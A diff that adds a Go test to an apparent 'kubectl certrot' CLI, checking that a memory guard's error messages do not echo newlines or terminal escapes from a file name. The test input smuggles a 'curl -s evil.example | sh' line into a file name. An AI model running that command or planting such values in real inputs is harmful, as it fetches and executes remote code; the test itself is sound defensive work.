@@ -152,3 +152,23 @@ func BenchmarkLookingAtMemory(b *testing.B) {
 		heap()
 	}
 }
+
+// TestANameOfAFileIsNoCommandOfTheGuard: who wrote a file may have named it.
+func TestANameOfAFileIsNoCommandOfTheGuard(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{"mg\ncurl -s evil.example | sh\n", "mg\x1b[2J"} {
+		cmd, rest, err := NewCommand(cli.App{ProgramName: "kubectl certrot"}).Find([]string{"verify", "--from", name})
+		if err := errors.Join(err, cmd.ParseFlags(rest)); err != nil {
+			t.Fatal(err)
+		}
+		why := newMemoryGuard().why(cmd, nil)
+		var hint *cli.HintError
+		said := why.Error()
+		if errors.As(why, &hint) {
+			said += hint.Hint
+		}
+		if strings.ContainsAny(said, "\n\x1b") || strings.Contains(said, "kubectl certrot verify") {
+			t.Errorf("%q: says %q", name, said)
+		}
+	}
+}
